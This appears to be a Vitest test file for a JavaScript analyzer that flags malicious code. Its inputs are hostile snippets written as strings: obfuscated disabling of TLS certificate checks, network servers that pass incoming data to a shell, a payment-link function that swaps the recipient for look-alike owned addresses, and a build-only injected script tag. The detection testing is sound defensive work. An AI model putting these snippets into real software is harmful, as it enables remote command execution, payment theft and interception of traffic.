import { describe, expect, test } from 'vitest';
import { follow } from '../sample.js';

const targets = (text: string, sink: string): (string | null)[] =>
  follow(text)
    .observations.filter((seen) => seen.sink === sink)
    .map(({ target }) => target);
const facts = (text: string): string[] => follow(text).facts.map(({ id }) => id);

describe('the checks of certificates', () => {
  test.each([
    ["process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'", ['0']],
    ["require('https').globalAgent.options.rejectUnauthorized = false", ['false']],
    [
      "const { options } = require('https').globalAgent; const flip = (s) => [...s].reverse().join(''); for (const k of Object.keys(require('./x.json'))) options[k in options ? 'keepAlive' : flip('dezirohtuanUtcejer')] = false;",
      ['false'],
    ],
    ["require('https').globalAgent.options.keepAlive = true", []],
    ["require('https').get('https://a.example', { rejectUnauthorized: false })", []],
  ])('are seen to change: %s', (text, expected) => {
    expect([...new Set(targets(text, 'tls.checks'))]).toEqual(expected);
  });
});

describe('who connects to a server of one’s own', () => {
  test.each([
    "require('net').createServer((s) => s.pipe(require('child_process').spawn('sh').stdin)).listen(1)",
    "require('tls').createServer({}, (s) => s.on('data', (d) => require('child_process').exec(String(d)))).listen(1)",
  ])('says what is as foreign as an answer: %s', (text) => {
    const taints = follow(text).observations.flatMap((seen) => (/^process/.test(seen.sink) ? seen.taints : []));
    expect(taints.map(({ source }) => source)).toContain('net.response');
  });
});

describe('the recipient of a payment link', () => {
  const OWN = "['0x52908400098527886E0F7030069857D2E4169EE7', '0x8617E340B3D01FA5F11F306F4090FD50E238070D']";
  test('that is the likest of several, where the scheme is not known', () => {
    const text = `const like = (a, b) => { let n = 0; for (let i = 0; i < b.length; i++) for (let j = 0; j < a.length; j++) n += a[i] === b[j] ? 1 : 0; return n; };
      const own = ${OWN}; exports.uri = (net, to, amount) => net + ':' + (amount > 1 ? own.slice().sort((a, b) => like(a, to) - like(b, to))[0] : to); exports.shape = /^0x[0-9a-f]{40}$/i;`;
    expect(facts(text)).toContain('recipient-in-link');
  });
  test('that is what was given is nobody else', () => {
    expect(
      facts("exports.uri = (net, to) => net + ':' + (to || exports.none); exports.shape = /^0x[0-9a-f]{40}$/i;"),
    ).not.toContain('recipient-in-link');
  });
});

test('a script tag that a plugin adds in one case only is seen', () => {
  const text = `let isBuild = false; const tag = { tag: 'script', attrs: { src: 'https://s.example/a.js' } };
    exports.plugin = () => ({ configResolved: (c) => { isBuild = c.command === 'build'; }, transformIndexHtml: (html) => ({ html, tags: isBuild ? [tag] : [] }) });`;
  expect(follow(text).observations.map(({ sink }) => sink)).toContain('page.tag');
});
